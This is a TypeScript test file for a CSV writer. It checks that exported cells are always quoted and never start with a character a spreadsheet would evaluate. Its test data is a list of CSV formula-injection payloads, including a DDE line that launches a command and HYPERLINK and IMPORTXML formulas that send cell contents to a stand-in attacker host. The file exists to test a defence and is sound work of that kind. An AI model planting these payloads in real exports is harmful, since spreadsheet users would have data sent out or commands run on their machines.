import { expect, test } from 'vitest'
import { csvCell, csvLine } from './csv.ts'

/** What attackers put into name fields, after OWASP's list of formula injections. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '  @SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '"=1+1"&"',
  '%0A=1+1',
  '|calc',
]

/** Reads a line back as RFC 4180 says, by a reader that has nothing in common with the writer. */
const readCells = (line: string): string[] =>
  [...line.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n$)/g)].map(([, cell = '']) => cell.replaceAll('""', '"'))

test.each(formulas)('a cell never begins what a spreadsheet evaluates: %j', formula => {
  const [cell = ''] = readCells(csvLine([formula, 'next']))
  const shown = cell.replace(/^[\s\p{Cc}\p{Cf}]+/u, '')
  expect(shown[0]).not.toMatch(/[=+\-@＝＋－＠|%\t\r\n]/)
  expect(cell.endsWith(formula)).toBe(true)
})

test.each(['Larch', "O'Brien", 'a,b', 'say "yes"', 'two\nlines', '1990-02-03', '', 'a-b', 'née'])(
  'what is no formula stays as it is: %j',
  text => {
    expect(readCells(csvLine([text, 'next']))).toEqual([text, 'next'])
  },
)

test('a cell is always quoted, so no value can end it', () => {
  expect(csvCell('a","=1+1')).toBe('"a"",""=1+1"')
  expect(csvCell(null)).toBe('""')
  expect(csvCell(['a'])).toBe('"[""a""]"')
})
